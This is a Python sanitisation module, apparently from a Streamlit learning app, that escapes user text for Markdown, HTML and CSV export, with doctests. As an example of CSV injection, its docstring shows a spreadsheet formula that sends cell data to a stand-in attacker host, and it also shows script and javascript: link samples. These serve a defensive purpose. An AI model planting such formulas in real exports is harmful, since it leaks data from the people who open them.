r"""Text from people, made safe for where it goes: Markdown, HTML and spreadsheets. One home for each.

**Markdown** (:func:`md_escape`): pages show records' titles, labels and lessons with
``st.markdown`` and the brief is written in Markdown, so every character that starts
markup in Markdown (emphasis, code, links and images, HTML, headings, tables) or in
Streamlit's flavour (``$`` for maths, ``~`` for strike-through, ``:red[...]`` colours)
gets a backslash, and line breaks become spaces: a title such as
``![x](http://elsewhere/pixel)`` is shown as typed, not fetched; a label such as
``<script>`` stays text.

>>> md_escape("<b>*bold*</b> [x](javascript:y) $x$")
'\\<b\\>\\*bold\\*\\</b\\> \\[x\\](javascript:y) \\$x\\$'

**HTML** (:func:`html_escape`): the concept map's tooltips and the printable brief.

>>> html_escape('<a href="x">')
'&lt;a href=&quot;x&quot;&gt;'

**Spreadsheets**: a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is read by Excel, LibreOffice and Google Sheets as a formula, so a lesson
titled ``=HYPERLINK("http://evil.example/?"&A1)`` would run in an organiser's spreadsheet
(OWASP's "CSV injection"). Every CSV we write for people goes through
:func:`escape_cell`: such a cell gets a leading ``'``, which spreadsheets show as
text and hide. A cell that already starts with ``'`` gets one more, so
:func:`unescape_cell` (applied by every CSV importer) gives back exactly what was
exported. Plain numbers such as ``-2`` (a score) are not formulas and stay as they are.

>>> escape_cell('=1+1'), escape_cell('-2'), escape_cell("'quoted"), escape_cell('plain')
("'=1+1", '-2', "''quoted", 'plain')
>>> all(unescape_cell(escape_cell(t)) == t for t in ['=1', '@a', "'", "''=x", '-2', '-x', '', 'ok'])
True
"""

from __future__ import annotations

import csv
import html
import io
import re

__all__ = ["escape_cell", "escape_csv", "html_escape", "md_escape", "unescape_cell"]

_MARKDOWN = re.compile(r"([\\`*_\[\]<>#|~$])")


def md_escape(text: object) -> str:
    """``text`` on one line, every character Markdown could read as markup backslashed."""
    return _MARKDOWN.sub(r"\\\1", " ".join(str(text).split()))


def html_escape(text: object) -> str:
    """``text`` as HTML text or attribute value (quotes escaped too)."""
    return html.escape(str(text), quote=True)


_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _needs_mark(text: str) -> bool:
    if text.startswith("'"):
        return True
    return text.startswith(_TRIGGERS) and not _NUMBER.fullmatch(text)


def escape_cell(text: str) -> str:
    """``text`` as a spreadsheet shows it but never runs it."""
    return "'" + text if _needs_mark(text) else text


def unescape_cell(text: str) -> str:
    """Undo :func:`escape_cell` (a cell we did not mark comes back unchanged)."""
    if text.startswith("'") and _needs_mark(text[1:]):
        return text[1:]
    return text


def escape_csv(data: bytes) -> bytes:
    """A whole CSV document (UTF-8) with every cell passed through :func:`escape_cell`.

    For CSV made by another writer, such as the engine's SPARQL results.

    >>> escape_csv(b'name,score\\r\\n=cmd(),-2\\r\\n')
    b"name,score\\r\\n'=cmd(),-2\\r\\n"
    """
    rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([escape_cell(cell) for cell in row])
    return out.getvalue().encode("utf-8")
